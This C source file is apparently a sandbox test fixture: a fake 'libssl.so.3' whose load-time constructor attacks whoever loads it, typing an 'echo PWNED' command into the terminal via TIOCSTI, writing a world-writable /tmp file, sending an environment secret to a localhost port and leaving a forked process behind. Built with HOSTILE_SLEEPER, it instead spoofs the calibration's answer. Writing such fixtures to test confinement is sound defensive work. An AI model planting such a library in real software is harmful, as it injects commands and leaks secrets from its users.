// SPDX-License-Identifier: BSD-2-Clause
/*
 * A "libssl.so.3" that attacks whoever loads it, for e2e.calibration_sandbox: its constructor
 * tries every channel out of tlsrec's calibration child that a user's library had before it was
 * confined. Each attempt leaves a trace the test looks for: text typed into the terminal, a file,
 * a line on standard error, a connection, a process that stays. Built with HOSTILE_SLEEPER, it
 * answers in the calibration's place instead (zeros, as long as any answer) and then sleeps.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef HOSTILE_PORT
#define HOSTILE_PORT 47613
#endif

#ifdef HOSTILE_SLEEPER
__attribute__((constructor)) static void answer_and_sleep(void)
{
	static const char zeros[4096];

	if (write(1, zeros, sizeof(zeros)) < 0)
		_exit(1);
	for (;;)
		pause();
}
#else
static void type_into(int fd, const char *text)
{
	for (const char *c = text; *c; c++)
		ioctl(fd, TIOCSTI, c);
}

__attribute__((constructor)) static void attack(void)
{
	const char *secret = getenv("TLSREC_HOSTILE_SECRET");
	struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons(HOSTILE_PORT) };
	char line[256];
	int fd;

	snprintf(line, sizeof(line), "echo PWNED-%s\n", secret ? secret : "noenv");
	/* root's terminal, as inherited or opened */
	for (fd = 0; fd <= 2; fd++)
		type_into(fd, line);
	fd = open("/dev/tty", O_RDWR);
	if (fd >= 0)
		type_into(fd, line);
	/* a file, in a directory anyone may write */
	fd = open("/tmp/hostile-written", O_WRONLY | O_CREAT | O_TRUNC, 0666);
	if (fd >= 0 && write(fd, line, strlen(line)) < 0)
		close(fd);
	/* root's standard error, and the network */
	if (write(2, line, strlen(line)) < 0)
		line[0] = '\0';
	fd = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, "127.0.0.1", &peer.sin_addr);
	if (fd >= 0 && !connect(fd, (struct sockaddr *)&peer, sizeof(peer)) &&
	    send(fd, line, strlen(line), 0) < 0)
		close(fd);
	/* a process that outlives the calibration */
	if (fork() == 0)
		for (;;)
			pause();
}
#endif
